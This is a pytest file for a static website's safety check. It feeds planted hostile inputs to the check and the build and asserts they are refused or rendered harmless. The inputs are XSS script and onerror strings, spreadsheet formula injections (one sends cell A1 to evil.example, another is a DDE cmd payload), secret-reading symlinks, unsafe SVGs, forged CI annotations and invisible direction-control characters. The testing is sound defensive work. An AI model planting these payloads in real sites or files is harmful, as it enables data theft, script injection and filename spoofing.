"""Values, files and outputs a pull request can hold, refused by the check and inert behind it (issue 10, part B)."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from lxml import html

from conftest import LANGUAGES, build, page_path

HOSTILE = '<script>alert("x")</script><img src=x onerror=alert(1)>'
PAGES = ["", "goals/", "partners/", "partners/cluj-napoca/", "timeline/", "background/",
         "news/2020-01-01-epi-starts/", "news/2020-q1/", "news/", "search/", "status/"]
def check(root: Path, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-P", "-m", "epi_site.check", "--root", str(root), "--no-status", *args],
                          capture_output=True, text=True)


def build_unchecked(root: Path, site: Path) -> subprocess.CompletedProcess:
    """Build with every problem of the check ignored, to see what the build alone lets through."""
    code = (
        "import sys\n"
        "from epi_site import problems\nfrom epi_site.content import loading\n"
        "import epi_site.site_state as state\n"
        "real = loading.load_content\n"
        "def unchecked(project, *a, **k):\n"
        "    quiet = problems.Problems()\n"
        "    original_add = problems.Problems.add\n"
        "    problems.Problems.add = lambda self, *a, **k: None\n"
        "    try:\n"
        "        return real(project, *a, **k)[0], quiet\n"
        "    finally:\n"
        "        problems.Problems.add = original_add\n"
        "state.load_content = unchecked\n"
        "from mkdocs.__main__ import cli\n"
        f"sys.argv = ['mkdocs', 'build', '-q', '-f', {str(root / 'mkdocs.yml')!r}, '-d', {str(site)!r}]\n"
        "cli()\n")
    return subprocess.run([sys.executable, "-P", "-c", code], capture_output=True, text=True, cwd=root,
                          env={**os.environ, "NO_MKDOCS_2_WARNING": "1"})


def assert_inert(page_file: Path, text: str) -> None:
    page = html.fromstring(page_file.read_bytes())
    # JSON-LD blocks (issue 12) are data, not scripts: they must parse and hold no markup.
    assert not page.xpath("//script[not(@src)][not(@type='application/ld+json')][normalize-space()]"), page_file
    for block in page.xpath("//script[@type='application/ld+json']"):
        assert "<" not in block.text and json.loads(block.text), page_file
    assert not page.xpath("//img[@onerror]|//*[@onerror]"), page_file
    assert text in page.text_content(), page_file


def test_a_hostile_site_value_and_catalog_string_are_text_on_every_kind_of_page(scratch, tmp_path):
    site_yml = scratch / "content/site.yml"
    site_yml.write_text(site_yml.read_text().replace('grant_agreement: "863614"', f"grant_agreement: '{HOSTILE}'"))
    po = scratch / "locales/de.po"
    quoted = HOSTILE.replace(chr(34), chr(92) + chr(34))
    po.write_text(po.read_text().replace('msgid "Home"\nmsgstr "Startseite"', f'msgid "Home"\nmsgstr "{quoted}"'))
    checked = check(scratch)
    assert checked.returncode == 1 and "locales/de.po" in checked.stdout + checked.stderr  # refused, by file...
    site = tmp_path / "site"
    result = build_unchecked(scratch, site)  # ...and behind the check, both are text
    assert result.returncode == 0, result.stderr[-3000:]
    for lang in LANGUAGES:
        for path in PAGES:
            assert_inert(page_path(site, lang, path), HOSTILE)
        assert_inert(site / ("" if lang == "en" else lang) / "404.html", HOSTILE)
    tabs = html.fromstring(page_path(site, "de", "goals/").read_bytes()).xpath("//nav[@class='md-tabs']//a")
    # The compiled catalog leaves out a rendering the check refuses: the English string stands in.
    assert tabs[0].text_content() == "Home"


def test_chart_labels_that_look_like_formulas_stay_text_in_every_languages_csv(scratch, tmp_path):
    hostile = ["=HYPERLINK(\"https://evil.example/?\"&A1)", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1",
               "  =cmd|' /C calc'!A0"]
    for lang in LANGUAGES:
        labels = scratch / f"content/charts.{lang}.yml"
        text = labels.read_text()
        for old, new in (("eu-citizens: ", hostile[0]), ("non-eu-nationals: ", hostile[1]), ("non-eu: ", hostile[2]),
                         ("other: ", hostile[3]), ("non-eu-citizens: ", hostile[4]), ("gap: ", hostile[5])):
            start = text.index(old) + len(old)
            end = text.index("\n", start)
            escaped = new.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r")
            text = text[:start] + '"' + escaped + '"' + text[end:]
        labels.write_text(text)
    chart = scratch / "content/charts/immigration-2018.yml"
    chart.write_text(chart.read_text().replace("source: ", "source: '  =cmd|'' /C calc''!A0' #", 1))
    result = build(scratch, tmp_path / "site")
    assert result.returncode == 0, result.stdout + result.stderr
    for lang in LANGUAGES:
        folder = tmp_path / "site" / ("" if lang == "en" else lang) / "data"
        rows = [row for file in sorted(folder.glob("*.csv"))
                for row in csv.DictReader(io.StringIO(file.read_bytes().decode("utf-8"), newline=""))]
        assert rows
        for row in rows:
            for column in ("dataset", "area", "key", "label", "unit", "source"):
                cell = row[column]
                assert not cell.lstrip().startswith(("=", "+", "-", "@")) and not cell.startswith(("\t", "\r")), \
                    (lang, column, cell)
            float(row["value"])  # numbers stay numbers
        labels = {row["label"] for row in rows}
        assert {"'" + h for h in hostile[:5]} | {"' =1+1"} <= labels, (lang, labels)
        assert {row["source"] for row in rows} >= {"'=cmd|' /C calc'!A0"}


def test_a_negative_value_stays_a_number(scratch, tmp_path):
    from epi_site.content.charts import Dataset, Point

    data = Dataset("d", "bar", "Eurostat", "EU-27", 2019, "percent", False, -3.5, None,
                   (Point("a", -1.0), Point("b", 2.5)), {})
    rows = list(csv.reader(io.StringIO(data.csv({"a": "-a", "b": "b"}))))
    assert [r[5] for r in rows[1:]] == ["-1", "2.5", "-3.5"]
    assert [r[4] for r in rows[1:3]] == ["'-a", "b"]


def test_a_formula_after_leading_white_space_is_neutralised_too():
    from epi_site.content.charts import Dataset, Point

    data = Dataset("d", "bar", " \t@SUM(A1)", "  =1+1", 2019, "percent", False, None, None, (Point("a", 1.0),), {})
    row = list(csv.reader(io.StringIO(data.csv({"a": "   -2+3"}), newline="")))[1]
    assert (row[1], row[4], row[8]) == ("'  =1+1", "'   -2+3", "' \t@SUM(A1)")


def symlink_or_skip(link: Path, target: Path) -> None:
    try:
        link.symlink_to(target)
    except OSError:
        pytest.skip("this file system cannot hold symbolic links")


@pytest.mark.parametrize("where", ["docs/secret.md", "docs/assets/config.png", "content/news/2022-01-01-x.en.md",
                                   "content/partners", "locales/fr.po", "docs/linked-folder"])
def test_a_symbolic_link_is_refused_and_never_followed(scratch, tmp_path, where):
    secret = tmp_path / "outside"
    secret.mkdir()
    (secret / "config").write_text("[remote]\ntoken = SECRET-TOKEN\n")
    link = scratch / where
    link.parent.mkdir(parents=True, exist_ok=True)
    if link.exists():
        import shutil
        shutil.rmtree(link) if link.is_dir() else link.unlink()
    symlink_or_skip(link, secret if where.endswith(("folder", "partners")) else secret / "config")
    result = check(scratch)
    assert result.returncode == 1
    assert f"{where}: this is a symbolic link" in result.stdout
    assert "put the file itself here (a copy), or delete the link" in result.stdout
    site = tmp_path / "site"
    built = build(scratch, site)
    assert built.returncode != 0 and "symbolic link" in built.stdout + built.stderr
    assert "Traceback" not in built.stdout + built.stderr
    assert not site.exists() or "SECRET-TOKEN" not in "".join(
        p.read_text(errors="replace") for p in site.rglob("*") if p.is_file())


def test_a_dangling_link_gives_a_message_not_a_traceback(scratch, tmp_path):
    symlink_or_skip(scratch / "docs/gone.md", tmp_path / "does-not-exist")
    result = check(scratch)
    assert result.returncode == 1 and "docs/gone.md: this is a symbolic link" in result.stdout
    built = build(scratch, tmp_path / "site")
    assert built.returncode != 0 and "Traceback" not in built.stdout + built.stderr


@pytest.mark.parametrize("where", ["docs/secret.md", "docs/assets/config.png", "content/news/2022-01-01-x.en.md"])
def test_a_hard_link_is_refused_like_a_symbolic_link(scratch, tmp_path, where):
    from epi_site.safety.files import publishable

    secret = tmp_path / "outside"
    secret.mkdir()
    (secret / "config").write_text("---\ntitle: x\n---\n[remote]\ntoken = SECRET-TOKEN\n")
    link = scratch / where
    link.parent.mkdir(parents=True, exist_ok=True)
    try:
        os.link(secret / "config", link)
    except OSError:
        pytest.skip("this file system cannot hold hard links")
    result = check(scratch)
    assert result.returncode == 1
    assert f"{where}: this file is a hard link" in result.stdout, result.stdout
    assert "put a copy of the file here instead" in result.stdout
    assert not publishable(scratch / "docs", link) if where.startswith("docs/") else True
    site = tmp_path / "site"
    built = build(scratch, site)
    assert built.returncode != 0 and "hard link" in built.stdout + built.stderr
    assert "Traceback" not in built.stdout + built.stderr
    assert not site.exists() or "SECRET-TOKEN" not in "".join(
        p.read_text(errors="replace") for p in site.rglob("*") if p.is_file())


@pytest.mark.parametrize("name", ["page.html", "assets/app.js", "assets/extra.css", ".htaccess", "index.php",
                                  "assets/PAGE.HTM", "data.json", "assets/movie.mp4"])
def test_a_file_type_outside_the_allow_list_is_refused_and_not_published(scratch, tmp_path, name):
    path = scratch / "docs" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("<script>alert(1)</script>")
    result = check(scratch)
    assert result.returncode == 1
    assert f"docs/{name}: files of this type" in result.stdout
    assert "docs/ holds pages, pictures and PDF documents only" in result.stdout
    site = tmp_path / "site"
    assert build_unchecked(scratch, site).returncode == 0
    assert not (site / name).exists() and not (site / "de" / name).exists()


def test_allowed_file_types_are_published(scratch, tmp_path):
    from PIL import Image

    (scratch / "docs/assets").mkdir(exist_ok=True)
    Image.new("RGB", (4, 4), "white").save(scratch / "docs/assets/photo.png")
    from test_pdf_active_content import make_pdf

    (scratch / "docs/assets/report.pdf").write_bytes(make_pdf())  # a real PDF: an unreadable one is refused
    (scratch / "docs/assets/drawing.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 4 4"><defs><linearGradient id="g"/></defs>'
        '<rect width="4" height="4" fill="url(#g)"/></svg>')
    assert check(scratch).returncode == 0
    site = tmp_path / "site"
    assert build(scratch, site).returncode == 0
    for name in ("photo.png", "report.pdf", "drawing.svg"):
        assert (site / "assets" / name).exists(), name


SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 4 4">\n{}\n</svg>\n'
BAD_SVGS = {
    "script": (SVG.format("<script>alert(1)</script>"), "holds a <script> element"),
    "mixed-case script": (SVG.format("<SCRIPT>alert(1)</SCRIPT>"), "holds a <SCRIPT> element"),
    "event handler": (SVG.format('<rect width="4" height="4" onclick="alert(1)"/>'), "event handler (onclick=...)"),
    "upper-case handler": (SVG.format('<rect width="4" ONLOAD="alert(1)"/>'), "event handler (onload=...)"),
    "foreignObject": (SVG.format("<foreignObject><p>x</p></foreignObject>"), "holds a <foreignObject> element"),
    "remote image": (SVG.format('<image href="https://tracker.example/p.png"/>'), "refers to something outside the file"),
    "xlink remote": (SVG.format('<image xlink:href="//tracker.example/p.png"/>'), "refers to something outside the file"),
    "javascript link": (SVG.format('<a href=" java\tscript:alert(1)"><text>x</text></a>'), "refers to something outside"),
    "data image": (SVG.format('<image href="data:image/svg+xml;base64,PHN2Zy8+"/>'), "refers to something outside"),
    "css url": (SVG.format('<rect style="fill:url(https://tracker.example/x)"/>'), "reference to another file or host"),
    "style import": (SVG.format('<style>@import url(https://tracker.example/a.css);</style>'), "imported from elsewhere"),
    "xml-stylesheet": ('<?xml version="1.0"?>\n<?xml-stylesheet href="https://tracker.example/a.css"?>\n' + SVG.format(""),
                       "processing instruction"),
    "entities": ('<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>\n' + SVG.format("<text>&b;</text>"),
                 "declares a DTD or entities"),
    "external DTD": ('<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
                     + SVG.format(""), "declares a DTD or entities"),
    "animated href": (SVG.format('<a href="#x"><set attributeName="href" to="javascript:alert(1)"/></a>'),
                      "animation that changes 'href'"),
    "xml:base": (SVG.format('<g xml:base="https://tracker.example/"><image href="p.png"/></g>'),
                 "refers to something outside the file (base="),
    "not XML": ("<svg><rect></svg>", "is not well-formed XML"),
}


@pytest.mark.parametrize("case", sorted(BAD_SVGS))
def test_an_unsafe_svg_is_refused_with_its_line_and_not_published(scratch, tmp_path, case):
    text, expected = BAD_SVGS[case]
    (scratch / "docs/assets").mkdir(exist_ok=True)
    (scratch / "docs/assets/map.svg").write_text(text)
    result = check(scratch)
    assert result.returncode == 1
    assert "docs/assets/map.svg:" in result.stdout and expected in result.stdout, result.stdout
    assert "What to do:" in result.stdout
    site = tmp_path / "site"
    assert build_unchecked(scratch, site).returncode == 0
    assert not (site / "assets/map.svg").exists()


def test_check_github_format_cannot_be_made_to_forge_workflow_commands(scratch):
    forged = "x\n::error file=README.md::forged\r::warning::also forged\n##[error]old syntax\u2028::add-mask::y"
    partners = scratch / "content/partners.yml"
    text = partners.read_text()
    partners.write_text(text.replace("role: city", f"role: {forged!r}".replace("'", '"'), 1))
    odd = scratch / "docs" / "a::b,c:d%0A.md"
    odd.write_text("---\ntitle: x\n---\n")
    result = subprocess.run([sys.executable, "-P", "-m", "epi_site.check", "--root", str(scratch), "--format", "github"],
                            capture_output=True, text=True)
    assert result.returncode == 1
    lines = result.stdout.split("\n")
    annotations = [line for line in lines if line.lstrip().startswith("::")]
    assert annotations and all(line.startswith(("::error file=", "::warning file=")) for line in annotations)
    for line in annotations:
        props, _, _message = line.partition(" ")[2].partition("::")
        assert "\r" not in line and "::" not in props
        assert all(p.split("=", 1)[0] in ("file", "line", "title") for p in props.split(","))
    assert any("a%3A%3Ab%2Cc%3Ad%250A.md" in line for line in annotations)
    assert any("%0A::error file=README.md::forged%0A::warning" in line for line in annotations)
    for line in lines:
        assert not line.lstrip().startswith("::") or line in annotations
        assert "##[" not in line
        assert "\r" not in line


# --- invisible direction controls ("Trojan Source") ---------------------------------------

RLO = "\u202e"  # shows what follows from right to left: "moc.elpmaxe" reads as example.com
DIRECTION_CONTROLS = re.compile("[\u202a-\u202e\u2066-\u2069]")


def _replace_once(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, (path, old)
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def _plant_direction_controls(root: Path) -> None:
    for path, old in ((root / "docs/goals.en.md", "title: Goals and expected results"),
                      (root / "docs/goals.en.md", "description: EPI's overall aim"),
                      (root / "docs/goals.en.md", "The project's overall aim"),
                      (root / "content/news/2020-01-01-epi-starts.en.md", "title: The European Pact"),
                      (root / "content/partners.yml", "name: Pro Arbeit")):
        _replace_once(path, old, old + f" {RLO}gnp.exe")


def _plant_in_the_catalog(root: Path) -> None:
    """U+202E at the start of the Swedish translation of "Partners"."""
    catalog = root / "locales/sv.po"
    text = catalog.read_text(encoding="utf-8")
    first = text.index('msgstr "', text.index('msgid "Partners"'))
    catalog.write_text(text[:first + 8] + RLO + text[first + 8:], encoding="utf-8")


def _outputs_holding(scratch: Path, site: Path, *patterns: re.Pattern) -> list[str]:
    """Build with the check bypassed; the text outputs that hold a direction control (or a pattern)."""
    result = build_unchecked(scratch, site)
    assert result.returncode == 0, result.stdout + result.stderr
    return [str(p.relative_to(site)) for p in site.rglob("*") if p.is_file() and p.suffix in (".html", ".xml", ".json", ".txt")
            and any(pattern.search(p.read_text(encoding="utf-8", errors="replace"))
                    for pattern in (DIRECTION_CONTROLS, *patterns))]


def test_a_direction_control_is_refused_with_its_line_in_every_kind_of_file(scratch):
    _plant_direction_controls(scratch)
    _plant_in_the_catalog(scratch)
    result = check(scratch)
    assert result.returncode != 0
    out = result.stdout + result.stderr
    for where in ("docs/goals.en.md:2", "docs/goals.en.md:3", "docs/goals.en.md:8", "content/news/2020-01-01-epi-starts.en.md:2",
                  "content/partners.yml:", "locales/sv.po:"):
        assert where in out, (where, out)
    assert out.count("invisible direction control (U+202E)") == 6, out
    assert "retype the words around it" in out


def test_a_direction_control_never_reaches_the_site_even_unchecked(scratch, tmp_path):
    _plant_direction_controls(scratch)
    site = tmp_path / "site"
    reached = _outputs_holding(scratch, site)
    assert not reached, reached
    page = page_path(site, "en", "goals/").read_text(encoding="utf-8")
    assert "gnp.exe" in page  # the words stay; only the invisible control goes


def test_a_file_name_with_an_invisible_character_is_refused_and_not_published(scratch):
    from epi_site.safety.files import publishable

    page = scratch / "docs" / f"te{RLO}dm.ts.en.md"
    page.write_text("---\ntitle: Test\ndescription: A test.\n---\n\n# Test\n", encoding="utf-8")
    folder = scratch / "content" / "news" / f"2021{RLO}"
    folder.mkdir()
    picture = scratch / "docs" / "logo\u200b.png"
    picture.write_bytes(b"\x89PNG\r\n\x1a\n")
    result = check(scratch)
    assert result.returncode != 0
    out = result.stdout + result.stderr
    assert out.count("this name holds an invisible character") == 3, out
    assert "(U+202E)" in out and "(U+200B)" in out and "letters, digits and hyphens" in out
    assert "docs/te\\u202edm.ts.en.md:" in out and RLO not in out  # the name as stored, readable
    assert not publishable(scratch / "docs", page) and not publishable(scratch / "docs", picture)
    assert publishable(scratch / "docs", scratch / "docs" / "goals.en.md")


def _plant_escaped_direction_controls(root: Path) -> None:
    """The same control written as a YAML escape: the file holds only ASCII, the value holds U+202E."""
    for path, old, new in ((root / "content/partners.yml", "name: Pro Arbeit", 'name: "Pro Arbeit \\u202egnp.exe"'),
                           (root / "content/news/2020-01-01-epi-starts.en.md",
                            "title: The European Pact for Integration began on 1 January 2020",
                            'title: "The European Pact \\u2066gnp.exe\\u2069 began on 1 January 2020"')):
        _replace_once(path, old, new)


def test_a_direction_control_written_as_a_yaml_escape_is_refused(scratch):
    _plant_escaped_direction_controls(scratch)
    result = check(scratch)
    assert result.returncode != 0
    out = result.stdout + result.stderr
    assert "content/partners.yml:" in out and "content/news/2020-01-01-epi-starts.en.md:2" in out, out
    assert "invisible direction control (U+202E)" in out and "invisible direction control (U+2066)" in out, out


def test_a_direction_control_written_as_a_yaml_escape_never_reaches_the_site(scratch, tmp_path):
    _plant_escaped_direction_controls(scratch)
    site = tmp_path / "site"
    reached = _outputs_holding(scratch, site)
    assert not reached, reached
    assert "Pro Arbeit gnp.exe" in page_path(site, "en", "partners/").read_text(encoding="utf-8")


def _plant_direction_references(root: Path) -> None:
    """The same control written as a character reference, which Markdown passes on to the page."""
    for path, old, new in ((root / "docs/goals.en.md", "The project's overall aim", "The &#x202E;project's overall aim"),
                           (root / "content/news/2020-01-01-epi-starts.en.md", "Seven cities,", "Seven &#8238;cities,")):
        _replace_once(path, old, new)


def test_a_direction_control_written_as_a_character_reference_is_refused(scratch):
    _plant_direction_references(scratch)
    result = check(scratch)
    assert result.returncode != 0
    out = result.stdout + result.stderr
    assert "docs/goals.en.md:8" in out and "content/news/2020-01-01-epi-starts.en.md:" in out, out
    assert "'&#x202E;' writes an invisible direction control" in out and "'&#8238;'" in out, out


def test_a_direction_control_written_as_a_character_reference_never_reaches_the_site(scratch, tmp_path):
    _plant_direction_references(scratch)
    reference = re.compile(r"&#(?:[xX]0*(?:202[a-eA-E]|206[6-9])|0*(?:823[4-8]|829[4-7]));")
    reached = _outputs_holding(scratch, tmp_path / "site", reference)
    assert not reached, reached


def test_a_direction_control_in_a_catalog_never_reaches_the_site_even_unchecked(scratch, tmp_path):
    _plant_in_the_catalog(scratch)
    reached = _outputs_holding(scratch, tmp_path / "site")
    assert not reached, reached


def test_a_file_name_that_is_not_utf8_is_refused_with_a_message_not_a_traceback(scratch, tmp_path):
    """Git stores names as bytes: a pull request can add one that is not UTF-8. Python reads it with
    lone surrogates, which MkDocs cannot quote into an address nor a strict terminal print."""
    (scratch / "docs" / "assets").mkdir(exist_ok=True)
    Path(os.fsdecode(os.fsencode(scratch / "docs" / "assets") + b"/photo\xff.png")).write_bytes(b"\x89PNG\r\n\x1a\n")
    Path(os.fsdecode(os.fsencode(scratch / "docs") + b"/te\xfest.en.md")).write_bytes(b"---\ntitle: Test\n---\n\n# Test\n")
    result = subprocess.run([sys.executable, "-P", "-m", "epi_site.check", "--root", str(scratch), "--no-status"],
                            capture_output=True, text=True, env={**os.environ, "PYTHONIOENCODING": "utf-8:strict"})
    out = result.stdout + result.stderr
    assert result.returncode == 1 and "Traceback" not in out, out
    assert "docs/assets/photo\\xff.png: this name is not UTF-8 text" in out and "docs/te\\xfest.en.md" in out, out
    built = build(scratch, tmp_path / "site")
    out = built.stdout + built.stderr
    assert built.returncode != 0 and "Traceback" not in out, out[-3000:]
    assert "docs/assets/photo\\xff.png: this name is not UTF-8 text" in out


def test_a_file_with_a_mistake_on_every_line_does_not_bury_the_others(scratch):
    page = scratch / "docs/goals.en.md"
    page.write_text(page.read_text(encoding="utf-8") + "".join(f"\nLine {n} {RLO}x\n" for n in range(50)), encoding="utf-8")
    partners = scratch / "content/partners.yml"
    partners.write_text(partners.read_text(encoding="utf-8").replace("name: Pro Arbeit", f"name: Pro {RLO}Arbeit", 1),
                        encoding="utf-8")
    result = check(scratch)
    out = result.stdout
    listed = [line for line in out.splitlines() if line.startswith("- docs/goals.en.md")]
    assert len(listed) == 21 and "and 30 more problems in this file, not listed" in listed[-1], out
    assert "- content/partners.yml:" in out  # the other file's problem is still in sight
    assert "51 problems found" in out and "Fix the 51 problems above" in out
    github = check(scratch, "--format", "github").stdout
    assert github.count("::error file=docs/goals.en.md") == 21
